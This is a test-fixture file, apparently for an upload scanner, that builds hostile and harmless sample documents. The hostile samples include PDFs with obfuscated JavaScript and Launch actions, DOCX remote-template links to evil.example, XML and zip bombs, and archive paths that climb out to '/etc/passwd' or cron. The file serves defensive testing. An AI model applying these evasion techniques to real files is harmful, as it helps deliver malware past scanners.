import { deflateSync, gzipSync } from 'node:zlib';
import { compound, docx, hwpx, objectStream, packed, pdf } from './made-documents.ts';

const zeros = (megabytes: number): Buffer => Buffer.alloc(megabytes * 1024 * 1024);
const related = (type: string, target: string, mode = 'TargetMode="External"') => ({
  name: 'word/_rels/settings.xml.rels',
  content: `<Relationships><Relationship Type="http://x/relationships/${type}" Target="${target}" ${mode}/></Relationships>`,
});
const far = 'https://evil.example/a.dotm';
const entity = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>';
const script = '<</S/JavaScript/JS(app.alert(1))>>';
/** The field in which a name stands once more, in UTF-8. */
const nameBeside = (name: string): Buffer => {
  const head = Buffer.alloc(9);
  head.writeUInt16LE(0x7075, 0);
  head.writeUInt16LE(5 + name.length, 2);
  return Buffer.concat([head, Buffer.from(name)]);
};
const inside = { name: 'b.txt', content: 'b' };
const activePdf = pdf(`1 0 obj${script}endobj`);

/** What is refused, by why. */
export const hostile: Record<string, Buffer> = {
  'a PDF with a script': activePdf,
  'a PDF with a script under another spelling': pdf('1 0 obj<</S /J#61va#53cript/JS(x)>>endobj'),
  'a PDF with a script in a packed object': pdf(objectStream(script)),
  'a PDF with a script behind a comment': pdf('1 0 obj<</S %c\n/JavaScript>>endobj'),
  'a PDF with a script far behind its key': pdf(`1 0 obj<</S${' '.repeat(400_000)}/JavaScript>>endobj`),
  'a PDF with a script by reference': pdf('1 0 obj<</S 5 0 R>>endobj 5 0 obj/JavaScript endobj'),
  'a PDF with a script that comes with a film': pdf('1 0 obj<</S/Rendition/JS(x)>>endobj'),
  'a PDF with a form that is a program': pdf('1 0 obj<</AcroForm<</XFA[(a)5 0 R]>>>>endobj'),
  'a PDF with a script after an open bracket': pdf(`( <<< ${'x'.repeat(99)} 1 0 obj${script}endobj`),
  'a PDF with a script beside another beginning': pdf('1 0 obj<</A(2 0 obj \\()/S/JavaScript>>endobj'),
  'a PDF with a script in plain packed objects': pdf(objectStream(script, '', (text) => Buffer.from(text))),
  'a PDF with packed objects behind a long dictionary': pdf(
    objectStream(script, `/Filter/FlateDecode/X(${'x'.repeat(9000)})`),
  ),
  'a PDF with objects packed twice': pdf(
    objectStream(script, '/Filter[/ASCIIHexDecode/FlateDecode]', (text) =>
      Buffer.from(`${deflateSync(text).toString('hex')}>`),
    ),
  ),
  'a PDF that only says that it has a password': pdf('% trailer<</Encrypt 1 0 R>>\n', objectStream(script)),
  'a PDF that says so and whose packed objects end in a wrong sum': pdf(
    '% trailer<</Encrypt 1 0 R>>\n',
    objectStream(script, '/Filter/FlateDecode', (text) => {
      const bytes = deflateSync(text);
      bytes.writeUInt8(bytes.readUInt8(bytes.length - 1) ^ 1, bytes.length - 1);
      return bytes;
    }),
  ),
  'a PDF with a form that sends itself': pdf('1 0 obj<</S/SubmitForm/F(https://x.example)>>endobj\n'),
  'a PDF with packed objects that cannot be read': pdf(objectStream('', '/Filter/FlateDecode', () => Buffer.from('x'))),
  'a PDF that starts a program': pdf('1 0 obj<</S\n/Launch/F(cmd.exe)>>endobj'),
  'a PDF with a file inside': pdf('1 0 obj<</Type/EmbeddedFile>>stream\nMZ\nendstream endobj'),
  'a PDF with a file inside that does not say so': pdf('1 0 obj<</Type/Filespec/EF<</F 2 0 R>>>>endobj'),
  'a DOCX with macros': docx({ name: 'word/vbaProject.bin', content: 'x' }),
  'a DOCX of the kind with macros': packed(
    { name: '[Content_Types].xml', content: 'application/vnd.ms-word.document.macro&#69;nabled.main+xml' },
    { name: 'word/document.xml', content: '' },
  ),
  'a DOCX with macros under another name': docx(related('vbaProject', 'a.bin', '')),
  'a DOCX with a control': docx({ name: 'word/activeX/activeX1.xml', content: '<x/>' }),
  'a DOCX with a foreign template': docx(related('attachedTemplate', far)),
  'a DOCX with a foreign template in single quotes': docx(related('attachedTemplate', far, "TargetMode='External'")),
  'a DOCX with a foreign template by numbers': docx(
    related('attachedTemplate', 'ht&#116;ps://evil.example/', 'TargetMode = "Ext&#101;rnal"'),
  ),
  'a DOCX with a template in the network': docx(related('attachedTemplate', 'file:///\\\\evil\\a.dotm')),
  'a DOCX with a template on a host': docx(related('attachedTemplate', 'file://evil/a.dotm')),
  'a DOCX with a picture on a share': docx(related('image', '\\\\evil.example\\share\\a.png')),
  'a DOCX with a link to a share': docx(related('hyperlink', 'file://evil.example/share/a.docx')),
  'a DOCX with a foreign object': docx(
    related('oleObject', 'mhtml:https://evil.example/a!x-usc:https://evil.example/'),
  ),
  'a DOCX with a foreign frame that looks like a link': docx(
    related('frame', 'https://evil.example/?relationships/hyperlink'),
  ),
  'a DOCX with an XML bomb': docx({ name: 'word/styles.xml', content: entity }),
  'a HWPX with an XML bomb in UTF-16': hwpx({ name: 'Contents/section0.xml', content: Buffer.from(entity, 'utf16le') }),
  'a DOC with macros': compound(['WordDocument', '1Table', 'Data', 'CompObj', 'Macros']),
  'a DOC with macros in capitals': compound(['WordDocument', 'MACROS']),
  'a DOC with macros behind eight megabytes': compound(
    ['WordDocument', '1Table', 'Data', 'CompObj', 'Macros'],
    8 * 1024 * 1024,
  ),
  'a DOC with a program packed in': compound(['WordDocument', 'ObjectPool', '\u0001Ole10Native']),
  'a HWP with a macro project': compound(['FileHeader', 'DocInfo', 'BodyText', 'BinData', '_VBA_PROJECT']),
  'a HWP with PostScript': compound(['FileHeader', 'DocInfo', 'BodyText', 'BIN0001.eps']),
  'a HWPX with a script of its own': hwpx({ name: 'Scripts/open.js', content: 'x' }),
  'a ZIP with a program': packed({ name: 'photo.jpg', content: 'MZ\u0090\0' }),
  'a ZIP with a script': packed({ name: 'open-me.VBS', content: 'x' }),
  'a ZIP with a script that ends in a dot': packed({ name: 'x.bat.', content: 'x' }),
  'a ZIP with a page': packed({ name: 'x.hta ', content: 'x' }),
  'a ZIP with a page for a browser': packed({ name: 'portfolio.html', content: '<script/>' }),
  'a ZIP with a link': packed({ name: 'x.url', content: 'x' }),
  'a ZIP with a turned name': packed({ name: 'a\u202efdp.txt', content: 'x' }),
  'a ZIP with another name beside': packed({ name: Buffer.from('a.txt'), content: 'x', extra: nameBeside('a.exe') }),
  'a ZIP with such a PDF': packed({ name: 'resume.pdf', content: activePdf }),
  'a ZIP with such a PDF that begins late': packed({
    name: 'a.txt',
    content: Buffer.concat([Buffer.from('\n'), activePdf]),
  }),
  'a ZIP with a large text that goes on as a script': packed({
    name: 'a.docx',
    content: docx({ name: 'word/_rels/a.rels', content: `${' '.repeat(3_000_000)}${related('frame', far).content}` }),
  }),
  'a ZIP with such a document': packed({
    name: 'resume.docx',
    content: docx({ name: 'word/vbaProject.bin', content: 'x' }),
  }),
  'a ZIP with another archive': packed({ name: 'a.txt', content: gzipSync('a') }),
  'a ZIP in a ZIP': packed({ name: 'more.zip', content: packed({ name: 'a.txt', content: 'a' }) }),
  'a ZIP that unpacks to a thousand times itself': packed({ name: 'a.txt', content: zeros(30) }),
  'a ZIP that holds more than it says': packed({ name: 'a.txt', content: zeros(1), says: { size: 10 } }),
  'a ZIP that holds less than it says': packed({ name: 'a.txt', content: 'a', says: { size: 10 } }),
  'a ZIP of too many parts': packed(...Array.from({ length: 2001 }, (_, n) => ({ name: `${n}.txt`, content: '' }))),
  'a ZIP whose parts share bytes': packed(
    {
      name: 'a.txt',
      content: `x${packed(inside)
        .subarray(0, -22 - 46 - inside.name.length)
        .toString('latin1')}`,
      isStored: true,
    },
    { ...inside, says: { offset: 30 + 'a.txtx'.length }, isElsewhere: true },
  ),
  'a ZIP with one name twice': packed({ name: 'a.txt', content: 'a' }, { name: 'a.txt', content: 'b' }),
  'a ZIP with two names for one part': packed({ name: 'a.txt', content: 'a', localName: 'a.exe' }),
  'a ZIP that climbs out': packed({ name: '../../etc/cron.d/a', content: 'a' }),
  'a ZIP that climbs out on Windows': packed({ name: 'x\\..\\..\\a', content: 'a' }),
  'a ZIP from the root': packed({ name: '/etc/passwd', content: 'a' }),
  'a ZIP with a password': packed({ name: 'a.txt', content: 'a', says: { encrypted: true } }),
};

/** What looks like it and is none of it. */
export const harmless: Record<string, Buffer> = {
  'a PDF of somebody who writes JavaScript': pdf(
    '1 0 obj<</Title(HTML/JavaScript, Launch of /S)>>endobj',
    objectStream('<</A<</S/URI/URI(https://developer.mozilla.org/Web/JavaScript /S/JavaScript)>>>>'),
  ),
  'a PDF with a list of no files': pdf('1 0 obj<</Names<</EmbeddedFiles<</Names[]>>>>/CharProcs<</S 5 0 R>>>>endobj'),
  'a PDF with a password': pdf(
    objectStream('', '/Filter/FlateDecode', () => Buffer.from('sealed')),
    'trailer<</Encrypt 9 0 R>>',
  ),
  'a DOCX about macros': docx({ name: 'word/settings.xml', content: '<w:t>macroEnabled &lt;!DOCTYPE></w:t>' }),
  'a DOCX with a sheet inside': docx({
    name: 'word/embeddings/sheet.xlsx',
    content: packed({ name: '[Content_Types].xml', content: '<Types/>' }),
  }),
  'a DOCX made from a template': docx(
    related(
      'attachedTemplate',
      'file:///C:\\Users\\kim\\AppData\\Roaming\\Microsoft\\Templates\\Polished%20resume.dotx',
    ),
  ),
  'a DOCX made from a template on a Mac': docx(
    related('attachedTemplate', 'file:///Users/kim/Library/Templates/Resume.dotx'),
  ),
  'a DOCX with a link, a picture and an icon': docx(related('hyperlink', 'https://github.com/kim/macroEnabled'), {
    name: 'word/media/image1.svg',
    content: '<!DOCTYPE svg><svg/>',
  }),
  'a DOCX with a picture that is fetched': docx(related('image', 'https://kim.example/a.png')),
  'a DOCX made from a template on an older Mac': docx(
    related('attachedTemplate', 'file://localhost/Users/kim/Templates/Resume.dotx'),
  ),
  'a DOCX with a packed drawing': docx({ name: 'word/media/image1.emz', content: gzipSync('drawing') }),
  'a HWP of five streams': compound(['FileHeader', 'DocInfo', 'BodyText', 'BinData', 'DefaultJScript']),
  'a HWP with a table of eight megabytes': compound(['FileHeader', 'DocInfo', 'BodyText', 'BinData'], 8 * 1024 * 1024),
  'a HWPX as it is saved': hwpx(
    { name: 'Scripts/headerScripts.js', content: 'var Documents = XHwpDocuments;' },
    { name: 'Scripts/sourceScripts', content: 'function OnDocument_New() {}' },
  ),
  'a ZIP of Korean Windows': packed(
    { name: Buffer.from('c0ccb7c2bcad5fb1e8c1f6c8c62e687770', 'hex'), content: 'a' },
    { name: Buffer.from('c0ccb7c2bcad5fb9dac1f6c8c62e687770', 'hex'), content: 'b' },
    { name: Buffer.from('c280c281', 'hex'), content: 'c' },
  ),
  'a ZIP of sheets and papers': packed(
    {
      name: 'plan.xlsx',
      content: packed(
        { name: 'xl/workbook.xml', content: '<x/>' },
        { name: '[Content_Types].xml', content: '<Types/>' },
      ),
    },
    {
      name: 'letter.odt',
      content: packed({ name: 'mimetype', content: 'x' }, { name: 'META-INF/manifest.xml', content: '<x/>' }),
    },
  ),
  'a ZIP of resumes': packed(
    { name: '이력서/', content: '' },
    { name: '이력서/김지원.docx', content: docx() },
    { name: '이력서/김지원.pdf', content: pdf() },
  ),
};

function manyBeforeOne(): Buffer {
  const words = '/ObjStm'.repeat(500);
  return objectStream(' '.repeat(15_900_000), `/Filter/FlateDecode${words}`, (text) => deflateSync(text, { level: 1 }));
}

/** What costs a careless reader minutes. Each is a place where work could be made to multiply. */
export const heavy: Record<string, Buffer> = {
  'relations without end': docx({
    name: 'word/_rels/a.rels',
    content: `${'<Relationship TargetMode="External"'.repeat(100_000)}${related('frame', far).content}`,
    isStored: true,
  }),
  'half names of types': packed(
    { name: 'a.xml', content: 'macroEnabled'.repeat(300_000), isStored: true },
    { name: '[Content_Types].xml', content: 'macroEnabled'.repeat(300_000), isStored: true },
  ),
  'many words before one stream': pdf(...(Array.from({ length: 5 }).fill(manyBeforeOne()) as Buffer[])),
};

/** What makes a reader of PDF begin again and again at the same bytes. */
export const tangled: Record<string, Buffer> = {
  'objects that begin in each other': pdf('1 0 obj<<(obj'.repeat(2000)),
  'words without an end': pdf('obj'.repeat(10_000)),
  'packed objects that begin in each other': pdf(
    '7 0 obj<</Type/ObjStm/Filter/FlateDecode/First 30000>>stream\n',
    deflateSync(`${Array.from({ length: 4000 }, (_, at) => `1 ${at}`).join(' ')}`.padEnd(30_000) + '['.repeat(4000)),
  ),
};

/** Two things at once: refused as neither. */
export const polyglots: Record<string, Buffer> = {
  'a PDF that is a ZIP': Buffer.concat([pdf(), shifted(packed({ name: 'a.txt', content: 'a' }), pdf().length)]),
  'a ZIP with something behind it': Buffer.concat([packed({ name: 'a.txt', content: 'a' }), Buffer.from('<script>')]),
  'a page with a PDF in it': Buffer.concat([Buffer.from('<html>'), pdf()]),
};

/** The same archive behind so many other bytes. */
function shifted(zip: Buffer, bytes: number): Buffer {
  const moved = Buffer.from(zip);
  const end = moved.length - 22;
  const start = moved.readUInt32LE(end + 16);
  moved.writeUInt32LE(start + bytes, end + 16);
  moved.writeUInt32LE(bytes, start + 42);
  return moved;
}
